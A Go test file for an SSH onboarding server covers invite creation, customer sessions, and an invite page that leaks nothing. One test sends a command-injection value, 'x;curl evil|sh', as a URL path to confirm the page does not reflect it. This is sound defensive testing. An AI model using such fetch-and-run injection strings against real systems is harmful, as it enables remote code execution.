package sshserve

import (
	"context"
	"html"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/oidc-onboard/oidc-onboard/steps"
	"github.com/oidc-onboard/oidc-onboard/store"
)

// A support engineer makes an invite inside the wizard over SSH; the code
// on their screen lets a customer in, walled into that organization, and
// the customer's session offers no invites.
func TestSSHEngineerInvitesFromTheWizard(t *testing.T) {
	t.Parallel()
	signer, line := sshKey(t)
	keys := filepath.Join(t.TempDir(), "authorized_keys")
	if err := os.WriteFile(keys, []byte(line), 0o600); err != nil {
		t.Fatal(err)
	}
	s := sshStart(t, func(o *ServerOptions) {
		o.AuthorizedKeys = keys
		o.SSHHost = "onboard.example.com:2222"
	})
	_, term := s.connect(t, 80, 24, "alice", gossh.PublicKeys(signer))
	term.waitFor(t, "To invite a customer instead: esc, then i.")
	term.answer(t, "\x1b", "Press i to invite")
	term.answer(t, "i", "Invite a customer")
	term.answer(t, "Initech\r\r", "Shown once")
	code := regexp.MustCompile(`[0-9a-z]{4}-[0-9a-z]{4}-[0-9a-z]{4}-[0-9a-z]{4}`).FindString(term.screen())
	if code == "" {
		t.Fatalf("no code on the screen:\n%s", term.screen())
	}
	term.waitFor(t, "ssh -p 2222 "+code+"@onboard.example.com")
	ev := s.waitAudit(t, "invite.create")
	if ev.Actor != "ssh:"+gossh.FingerprintSHA256(signer.PublicKey()) || ev.Organization != "Initech" {
		t.Errorf("invite_created = %+v", ev)
	}

	_, customer := s.connect(t, 80, 24, code)
	customer.waitFor(t, "Initech")
	if strings.Contains(customer.screen(), "invite a customer") {
		t.Errorf("a customer was offered invites:\n%s", customer.screen())
	}
}

// A customer is the organization's admin: step 0 speaks to them; when
// they leave, they read until when the same code brings them back.
func TestSSHCustomerIsAddressedAndToldWhenToComeBack(t *testing.T) {
	t.Parallel()
	s := sshStart(t, nil)
	code, inv := s.invite(t, "Initech")
	_, term := s.connect(t, 80, 24, code)
	term.waitFor(t, "Name this SSO connection for your organization.")
	term.send("\x03")
	term.waitEnd(t)
	if want := steps.LeaveNote(inv.ExpiresAt); !strings.Contains(term.all(), want) {
		t.Errorf("the customer left without reading %q:\n%s", want, term.all())
	}
}

// serve records where its SSH server listens, as customers reach it, for
// the command `invite` prints.
func TestServeRecordsItsSSHAddressForInvites(t *testing.T) {
	t.Parallel()
	st, _ := serveInBackground(t, ServeConfig{SSHAddr: "127.0.0.1:0", HTTPAddr: "127.0.0.1:0",
		PublicURL: "http://localhost:8976", Timeout: time.Second})
	host, page, err := st.InviteAddresses(t.Context(), "")
	if err != nil || !strings.HasPrefix(host, "localhost:") || page != "http://localhost:8976" {
		t.Errorf("serve recorded %q and %q (%v)", host, page, err)
	}
}

// The invite page at PUBLIC_URL/i/CODE says how to connect: the ssh
// command with the code, the host key to compare, a line for Windows;
// nothing of the organization. Opening it does not use the code up, and
// a code that works, one withdrawn and one never made get answers alike
// but for the code itself: the same status, headers and page.
func TestInvitePageSaysHowToConnectAndTellsNothing(t *testing.T) {
	t.Parallel()
	s := sshStart(t, func(o *ServerOptions) { o.SSHHost = "onboard.example.com:2222" })
	get := func(code string) (int, http.Header, string) {
		t.Helper()
		resp, err := http.Get(s.url + "/i/" + code)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		resp.Header.Del("Date")
		return resp.StatusCode, resp.Header, strings.ReplaceAll(html.UnescapeString(string(body)), code, "CODE")
	}
	good, _ := s.invite(t, "Initech Secret Org")
	withdrawn, inv := s.invite(t, "Initech Secret Org")
	if err := s.st.RevokeInvite(t.Context(), inv.ID); err != nil {
		t.Fatal(err)
	}
	status, header, page := get(good)
	fingerprint := gossh.FingerprintSHA256(s.srv.opts.HostKey.PublicKey())
	for _, want := range []string{"ssh -p 2222 CODE@onboard.example.com", "ssh -p 2222 setup@onboard.example.com", fingerprint, "Windows"} {
		if !strings.Contains(page, want) {
			t.Errorf("the invite page lacks %q:\n%s", want, page)
		}
	}
	if status != http.StatusOK || header.Get("Cache-Control") != "no-store" || header.Get("Referrer-Policy") != "no-referrer" ||
		strings.Contains(page, "Initech") {
		t.Errorf("invite page: %d %v\n%s", status, header, page)
	}
	if _, err := s.st.LookupInvite(t.Context(), good); err != nil {
		t.Errorf("opening the page used the code up: %v", err)
	}
	for _, other := range []string{withdrawn, "zzzz-zzzz-zzzz-zzzz"} {
		st, h, p := get(other)
		if st != status || !reflect.DeepEqual(h, header) || p != page {
			t.Errorf("the page for %s differs from a working code's: %d %v\n%s", other, st, h, p)
		}
	}
	if st, _, p := get("x;curl%20evil%7Csh"); st != status || strings.Contains(p, "curl") || !strings.Contains(p, "setup@onboard.example.com") {
		t.Errorf("a URL without a code's shape: %d\n%s", st, p)
	}
}

// A customer whose invite has a label is that label in the engineers'
// list of live sessions, not the invite's ID.
func TestSSHLiveListNamesTheCustomerByTheInvitesLabel(t *testing.T) {
	t.Parallel()
	s := sshStart(t, nil)
	code, inv, err := s.st.MakeInviteFor(context.Background(), "Acme Corp", "Jane at Acme IT", time.Hour, store.Event{Actor: "test"})
	if err != nil {
		t.Fatal(err)
	}
	s.connect(t, 80, 24, code)
	plain, _ := s.invite(t, "Globex")
	s.connect(t, 80, 24, plain)
	who := map[string]string{}
	for _, i := range s.srv.LiveSessions() {
		who[i.Organization] = i.Who
	}
	if who["Acme Corp"] != "Jane at Acme IT" || !strings.HasPrefix(who["Globex"], "invite:inv_") || inv.Label != "Jane at Acme IT" {
		t.Fatalf("who: %+v", who)
	}
}
